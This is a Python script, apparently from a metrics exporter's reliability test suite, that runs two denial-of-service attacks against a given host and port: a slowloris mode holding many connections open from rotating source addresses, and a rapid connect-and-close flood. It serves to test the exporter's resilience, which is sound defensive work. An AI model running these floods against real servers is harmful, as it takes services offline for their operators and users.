#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""flood.py hold HOST PORT N SECONDS SRC...
   flood.py loop HOST PORT SECONDS SRC...

hold: opens N connections to HOST:PORT at once (non-blocking; IPv6 when
HOST has a ':'), their source addresses taken in turn from SRC, and keeps
them for SECONDS trickling a request a byte a second (slowloris), opening
again those the server closes; prints "held K of N" (open at the end) and
"reopened R".  loop: connects and closes as fast as it can for SECONDS,
from SRC in turn; prints "connections C".  The attacks of issue 42 on the
exporter (tests/unit/test_reliability_conns.sh, bench/exporter_attacks.sh).
"""
import errno, selectors, socket, sys, time

mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
REQ = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4096


def fam_of(src):
    return socket.AF_INET6 if ":" in src or ":" in host else socket.AF_INET


def dst_for(fam):
    return "::ffff:" + host if fam == socket.AF_INET6 and ":" not in host else host


def start(src):
    fam = fam_of(src)
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.setblocking(False)
    try:
        s.bind((src, 0))
        s.connect_ex((dst_for(fam), port))
    except OSError:
        s.close()
        return None
    return s


def alive(s):
    try:
        return s.recv(1, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


if mode == "loop":
    secs, srcs = float(sys.argv[4]), sys.argv[5:] or ["127.0.0.1"]
    end, n = time.monotonic() + secs, 0
    while time.monotonic() < end:
        src = srcs[n % len(srcs)]
        fam = fam_of(src)
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.settimeout(1)
        try:
            s.bind((src, 0))
            s.connect((dst_for(fam), port))
            n += 1
        except OSError:
            pass
        s.close()
    print("connections %d" % n, flush=True)
    sys.exit(0)

n, secs, srcs = int(sys.argv[4]), float(sys.argv[5]), sys.argv[6:] or ["127.0.0.1"]
conns = [c for c in (start(srcs[i % len(srcs)]) for i in range(n)) if c]
reopened, pos, end = 0, 0, time.monotonic() + secs
time.sleep(1)
while time.monotonic() < end:
    for i, c in enumerate(conns):
        try:
            c.send(REQ[pos % len(REQ):pos % len(REQ) + 1])
            continue
        except BlockingIOError:
            continue
        except OSError as e:
            if e.errno in (errno.ENOTCONN, errno.EAGAIN, errno.EINPROGRESS):
                continue
        c.close()
        r = start(srcs[i % len(srcs)])	# the server shut it: again
        if r:
            conns[i] = r
            reopened += 1
    pos += 1
    time.sleep(1)
print("held %d of %d" % (sum(alive(c) for c in conns), n), flush=True)
print("reopened %d" % reopened, flush=True)
